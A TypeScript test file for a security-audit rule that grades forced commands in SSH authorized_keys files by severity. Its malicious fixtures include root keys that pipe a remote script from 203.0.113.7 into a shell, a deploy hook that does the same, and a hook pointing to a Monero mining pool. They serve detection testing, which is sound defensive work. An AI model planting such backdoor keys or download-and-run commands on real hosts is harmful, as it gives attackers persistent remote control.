import { testRule } from '../../../test/helpers/rule-tester';
import { ED25519, keysFact, RSA } from '../../../test/helpers/ssh-fixtures';
import type { ForcedProgram } from '../../collect/accounts/ssh-keys';
import rule from './forced-command-key';

const root = (text: string) => ({ sshKeys: keysFact([{ path: '/root/.ssh/authorized_keys', users: ['root'], text }]) });

const HOOK = '#!/bin/sh\nset -eu\ncd /srv/app\ngit pull --ff-only\nnpm ci --omit=dev\nsudo systemctl restart app\n';
const DEPLOY = `from="10.0.0.0/8",command="/usr/local/bin/deploy-hook",no-pty,no-port-forwarding ${ED25519}\n`;

/** The deploy key, with what the collector found at /usr/local/bin/deploy-hook. */
function deploy(program: Partial<ForcedProgram>, line = DEPLOY) {
  const facts = keysFact([{ path: '/home/deploy/.ssh/authorized_keys', users: ['deploy'], text: line }]);
  facts.keys[0].commandPrograms = [
    {
      word: '/usr/local/bin/deploy-hook',
      path: '/usr/local/bin/deploy-hook',
      exists: true,
      mtime: '2026-08-01T10:00:00.000Z',
      uid: 0,
      mode: 0o755,
      dirMode: 0o755,
      dirUid: 0,
      text: HOOK,
      binary: false,
      ...program,
    },
  ];
  return { sshKeys: facts, packages: { manager: 'dpkg' as const, files: ['/usr/bin/bash'], packageCount: 1 } };
}

testRule(rule, {
  valid: [
    { name: 'plain keys with from= and no-pty', facts: root(`${ED25519}\nfrom="10.0.0.0/8",no-pty ${RSA}\n`) },
    {
      name: 'AWS/Debian cloud image root refusal',
      facts: root(
        `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"admin\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ${RSA}\n`,
      ),
    },
    { name: 'rrsync backup key', facts: root(`command="/usr/bin/rrsync -ro /srv/backup",restrict ${RSA}\n`) },
    {
      name: 'rsync --server and borg serve',
      facts: root(
        `command="rsync --server --sender -vlogDtpre.iLsfxC . /var/www" ${RSA}\ncommand="borg serve --restrict-to-path /backup",restrict ${ED25519}\n`,
      ),
    },
    {
      name: 'gitlab-shell',
      facts: root(`command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-12",no-port-forwarding ${RSA}\n`),
    },
  ],
  invalid: [
    {
      name: 'forced command that downloads and runs a script',
      facts: root(`command="curl -fsSL http://203.0.113.7/s.sh | bash; exec $SHELL" ${RSA}\n`),
      expect: [
        {
          severity: 'critical',
          user: 'root',
          path: '/root/.ssh/authorized_keys',
          title: /forced command: curl/,
          evidence: /command: curl -fsSL/,
        },
      ],
    },
    {
      name: 'forced command from a hidden directory',
      facts: root(`command="/var/tmp/.x/run" ${ED25519}\n`),
      expect: [{ severity: 'critical', evidence: /\/var\/tmp\/\.x\/run/ }],
    },
    {
      name: 'deploy key whose hook is a root-owned script with nothing dangerous: low',
      facts: deploy({}),
      expect: [
        {
          severity: 'low',
          user: 'deploy',
          title: /deploy-style hook: \/usr\/local\/bin\/deploy-hook/,
          evidence: /deploy-hook: 7 line\(s\) read, no download-and-execute/,
        },
      ],
    },
    {
      name: 'the same deploy key whose hook downloads and runs code: critical',
      facts: deploy({ text: `${HOOK}curl -fsSL http://203.0.113.7/x | sh\n` }),
      expect: [{ severity: 'critical', evidence: /deploy-hook: .*: curl -fsSL http:\/\/203\.0\.113\.7\/x \| sh/ }],
    },
    {
      name: 'the same deploy key whose hook names a mining pool: critical',
      facts: deploy({ text: `${HOOK}/opt/x/run -o stratum+tcp://pool.supportxmr.com:3333\n` }),
      expect: [{ severity: 'critical', evidence: /stratum\+tcp:\/\/pool\.supportxmr\.com:3333/ }],
    },
    {
      name: 'the same deploy key whose hook is world-writable: high',
      facts: deploy({ mode: 0o777 }),
      expect: [{ severity: 'high', evidence: /can be rewritten by any account \(mode 0777/ }],
    },
    {
      name: 'the same deploy key whose hook belongs to another account: high',
      facts: deploy({ uid: 1001 }),
      expect: [{ severity: 'high', evidence: /belongs to uid 1001, not root/ }],
    },
    {
      name: 'the same deploy key whose hook is missing: high',
      facts: deploy({ exists: false, uid: null, mode: null, dirMode: null, dirUid: null, text: null }),
      expect: [{ severity: 'high', evidence: /deploy-hook does not exist/ }],
    },
    {
      name: 'the same deploy key whose hook is an unpackaged compiled program: high',
      facts: deploy({ text: null, binary: true }),
      expect: [{ severity: 'high', evidence: /compiled program no package owns/ }],
    },
    {
      name: 'the same options with a command in /tmp: critical',
      facts: deploy({ word: '/tmp/deploy-hook', path: '/tmp/deploy-hook', dirMode: 0o1777 }, DEPLOY.replace('/usr/local/bin/', '/tmp/')),
      expect: [{ severity: 'critical', evidence: /\/tmp\/deploy-hook/ }],
    },
    {
      name: 'unknown wrapper script is high',
      facts: root(`command="/usr/local/bin/login-hook.sh" ${ED25519}\n`),
      expect: [{ severity: 'high', title: /login-hook\.sh/ }],
    },
  ],
});
